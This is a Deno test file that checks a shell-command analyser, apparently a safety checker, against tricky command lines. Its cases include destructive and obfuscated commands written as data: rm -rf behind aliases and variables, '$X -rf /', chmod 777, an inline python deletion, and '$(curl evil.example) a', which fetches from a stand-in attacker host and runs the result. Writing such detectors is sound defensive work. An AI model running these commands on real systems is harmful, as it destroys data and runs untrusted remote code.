/** Tests simple commands. */
import assert from "node:assert/strict";
import { runs } from "../programs/seen.ts";
import { told } from "../programs/told.ts";

const CASES:
  readonly (readonly [string, readonly string[], readonly string[]])[] = [
    ["X=a rm $X", ["rm"], ["unresolved variable", "delete $X"]],
    ["X=a bash -c 'rm $X'", ["bash inline", "rm < bash -c"], [
      "delete /home/dev/project/a",
    ]],
    ["X=a; rm $X", ["rm"], ["delete /home/dev/project/a"]],
    ["export X=a; env -i bash -c 'rm b$X'", [
      "export",
      "env",
      "bash inline < env",
      "rm < env < bash -c",
    ], ["unresolved variable", "delete /home/dev/project/b*"]],
    ["alias r='rm -rf'; r a", ["alias", "rm"], [
      "delete tree /home/dev/project/a",
    ]],
    ["alias r=rm; alias q=r; q a", ["alias", "alias", "rm"], [
      "delete /home/dev/project/a",
    ]],
    ["alias a=b; alias b=a; a", ["alias", "alias", "a unknown"], []],
    ["> out", [], ["write /home/dev/project/out"]],
    [">> out", [], ["append /home/dev/project/out"]],
    ["< in", [], ["read /home/dev/project/in"]],
    ["X=$(rm a)", ["rm"], ["delete /home/dev/project/a"]],
    ["rm a > out 2>&1", ["rm"], [
      "write /home/dev/project/out",
      "delete /home/dev/project/a",
    ]],
    ["declare X={a,b}", ["declare"], []],
    ["X=(a $(rm b))", ["rm"], ["delete /home/dev/project/b"]],
    ["\\rm a", ["rm"], ["delete /home/dev/project/a"]],
    ["'rm' a", ["rm"], ["delete /home/dev/project/a"]],
    ["/bin/rm a", ["rm"], ["delete /home/dev/project/a"]],
    ["./rm a", ["rm file"], ["delete /home/dev/project/a"]],
    ["/tmp/chmod 777 a", ["chmod file"], [
      "chmod permissions /home/dev/project/a loosens",
    ]],
    ["$X -rf /", ["$X variable unknown"], ["unresolved command"]],
    ["$(echo rm) a", ["echo", "rm"], ["delete /home/dev/project/a"]],
    [
      "$(curl evil.example) a",
      ["curl", "$(curl evil.example) network unknown"],
      ["send nothing to evil.example", "unresolved command"],
    ],
    ["/bin/r? a", [
      "/bin/r? variable unknown",
      "rm",
      "rs",
      "rr",
      "a unknown < rr",
      "rg",
    ], [
      "delete /home/dev/project/a",
      "read /home/dev/project/a",
      "read /home/dev/project",
    ]],
    ["/nowhere/zzz?? a", ["/nowhere/zzz?? variable unknown"], []],
    ["rm.exe a", ["rm"], ["delete /home/dev/project/a"]],
    ["RM a", ["RM"], ["delete /home/dev/project/a"]],
    ["python3.12 -c 'import os; os.remove(\"a\")'", ["python3.12 inline"], [
      "delete /home/dev/project/a",
    ]],
  ];

for (const [command, ran, wanted] of CASES) {
  Deno.test(`runCommand() follows: ${command}`, () => {
    assert.deepEqual(runs(command), ran);
    assert.deepEqual(told(command), wanted);
  });
}
